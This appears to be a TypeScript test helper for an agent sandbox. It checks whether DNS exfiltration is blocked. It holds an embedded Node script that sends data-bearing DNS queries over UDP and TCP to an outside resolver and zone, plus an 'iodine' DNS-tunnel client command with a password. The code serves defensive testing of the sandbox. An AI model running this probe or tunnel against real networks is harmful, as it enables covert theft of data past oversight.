import { buildStage } from "../../support/stage.ts";
import { PASSWORD, RESOLVER, ZONE } from "./outside.ts";

/**
 * What an agent without privileges can do about it: ask for names that carry data, of every type, by UDP and by TCP. Prints how many it asked,
 * how many were answered, and how many bytes of record data came back other than addresses.
 */
const EXFILTRATE = `
const { createSocket } = require("node:dgram"), { connect } = require("node:net"), { randomBytes } = require("node:crypto");
const [resolver, zone, count] = process.argv.slice(1);
const query = (id) => {
  const labels = [randomBytes(30).toString("hex"), randomBytes(30).toString("hex"), ...zone.split(".")];
  const name = Buffer.concat([...labels.map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])), Buffer.from([0])]);
  const type = [1, 28, 5, 10, 15, 16, 33, 65399][id % 8];
  return Buffer.concat([Buffer.from([id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), name, Buffer.from([type >> 8, type & 255, 0, 1])]);
};
let answered = 0, carried = 0;
const read = (message) => {
  answered += 1;
  const records = message.readUInt16BE(6), type = message.readUInt16BE(message.indexOf(0, 12) + 1);
  if (records > 0 && type !== 1 && type !== 28) carried += message.length;
};
const udp = createSocket("udp4").on("message", read).on("error", () => {});
const tcp = connect(53, resolver).on("error", () => {});
let rest = Buffer.alloc(0);
tcp.on("data", (chunk) => {
  rest = Buffer.concat([rest, chunk]);
  while (rest.length > 1 && rest.length >= 2 + rest.readUInt16BE(0)) {
    read(rest.subarray(2, 2 + rest.readUInt16BE(0)));
    rest = rest.subarray(2 + rest.readUInt16BE(0));
  }
});
for (let id = 0; id < count; id += 1) {
  const message = query(id);
  if (id % 2 === 0) udp.send(message, 53, resolver);
  else tcp.write(Buffer.concat([Buffer.from([message.length >> 8, message.length & 255]), message]));
}
setTimeout(() => { console.log(JSON.stringify({ asked: Number(count), answered, carried })); process.exit(0); }, 3000);`;

export interface Exfiltration {
  readonly asked: number;
  readonly answered: number;
  /** Bytes of answers with record data of a type that can carry any. */
  readonly carried: number;
  /** The tunnel client's own words, run in the same sandbox. */
  readonly client: string;
}

/** The agent as it really runs: `weir run -- COMMAND`. */
export async function exfiltrateFromSandbox(count: number): Promise<Exfiltration> {
  const stage = await buildStage();
  try {
    stage.configure({ upstream: { resolvers: [RESOLVER] } }, { hosts: [] });
    const script = await stage.run([process.execPath, "-e", EXFILTRATE, RESOLVER, ZONE, String(count)]);
    if (script.code !== 0) throw new Error(`weir run: ${script.stderr.slice(-500)}`);
    const client = await stage.run(["iodine", "-f", "-P", PASSWORD, RESOLVER, ZONE], { deadlineMs: 30_000 });
    if (client.code === 0) throw new Error("iodine ended as if it had worked");
    return { ...JSON.parse(script.stdout) as Omit<Exfiltration, "client">, client: client.stderr.trim().split("\n").at(-1) ?? "" };
  } finally {
    stage.remove();
  }
}
